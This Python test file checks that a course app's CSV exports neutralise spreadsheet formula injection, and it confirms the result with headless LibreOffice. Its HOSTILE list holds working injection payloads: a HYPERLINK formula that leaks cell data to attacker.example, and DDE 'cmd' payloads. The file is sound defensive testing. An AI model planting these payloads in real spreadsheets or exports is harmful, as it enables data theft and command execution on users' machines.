"""CSV exports open in a spreadsheet as data: no cell runs as a formula, numbers stay
numbers, and "2 of 6" stays text instead of becoming a date. Checked with LibreOffice Calc
itself (headless), which CI installs; without it the test fails under CI=true."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from defusedxml import ElementTree

from cocourse.models import User
from cocourse.web import csv_export

from .conftest import AuthActions
from .test_reports import cohort_setup  # noqa: F401 (the fixture)

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your results")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("Ann O'Neill", "Ann O'Neill"),
        ("-2", "-2"),  # a plain number written as text stays a number
        ("0.5", "0.5"),
        (-2, -2),
        (85.5, 85.5),
        (None, ""),
        (True, "true"),
        ("2 of 6", "2 of 6"),
    ],
)
def test_a_cell_that_would_run_as_a_formula_starts_with_an_apostrophe(value, written):
    assert csv_export.cell(value) == written


def spreadsheet_cells(csv_text: str, tmp_path: Path) -> list[list[tuple[str, str, str]]]:
    """The rows LibreOffice Calc reads from a CSV: per cell (value type, text, formula)."""
    soffice = shutil.which("soffice")
    if soffice is None:
        if os.environ.get("CI") == "true":
            pytest.fail("LibreOffice Calc not found: CI installs libreoffice-calc-nogui")
        pytest.skip("LibreOffice Calc not installed")
    source = tmp_path / "export.csv"
    source.write_text(csv_text, encoding="utf-8")
    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            "fods",
            "--infilter=CSV:44,34,76,1",  # comma, double quote, UTF-8, from line 1
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    tree = ElementTree.parse(tmp_path / "export.fods")
    rows = []
    for row in tree.iterfind(".//table:table-row", NS):
        cells = []
        for found in row.iterfind("table:table-cell", NS):
            kind = found.get(f"{{{NS['office']}}}value-type", "")
            text = "".join(found.itertext()).strip()
            formula = found.get(f"{{{NS['table']}}}formula", "")
            cells.append((kind, text, formula))
        if any(kind for kind, _, _ in cells):
            rows.append(cells)
    return rows


def test_libreoffice_reads_hostile_text_as_text_and_numbers_as_numbers(tmp_path):
    rows = [("name", "score", "lessons")] + [(name, 85, "2 of 6") for name in HOSTILE]
    plain = io.StringIO()
    csv.writer(plain).writerows(rows[:2])  # without the protection
    (tmp_path / "raw").mkdir()
    raw = spreadsheet_cells(plain.getvalue(), tmp_path / "raw")
    assert raw[1][0][2], (
        "LibreOffice did not evaluate the unprotected formula: the check proves nothing"
    )
    cells = spreadsheet_cells(csv_export.lines(rows), tmp_path)
    assert len(cells) == len(rows)
    for (kind, text, formula), name in zip((row[0] for row in cells[1:]), HOSTILE, strict=True):
        assert formula == "" and kind == "string", (name, text, formula)
        assert name.strip() in text
    assert all(row[1][:2] == ("float", "85") for row in cells[1:])
    assert all(row[2][:2] == ("string", "2 of 6") for row in cells[1:])


def test_the_cohort_export_opens_without_formulas(cohort_setup, session, tmp_path):  # noqa: F811
    app, cohort, _other = cohort_setup
    ann = session.query(User).filter_by(email="ann@example.org").one()
    ann.name = HOSTILE[0]
    session.commit()
    client = app.test_client()
    AuthActions(client, session).login("assessor@example.org")
    with client.get(f"/reports/cohorts/{cohort.id}.csv?track=basics&excel=1") as response:
        body = response.get_data(as_text=True)
    assert body.startswith(csv_export.BOM)  # for Excel
    cells = spreadsheet_cells(body.removeprefix(csv_export.BOM), tmp_path)
    assert all(formula == "" for row in cells for _, _, formula in row)
    assert any(HOSTILE[0] in text for row in cells for _, text, _ in row)
    assert all(kind != "date" for row in cells for kind, _, _ in row)
    with client.get(f"/reports/cohorts/{cohort.id}.csv?track=basics") as response:
        assert not response.get_data(as_text=True).startswith(csv_export.BOM)
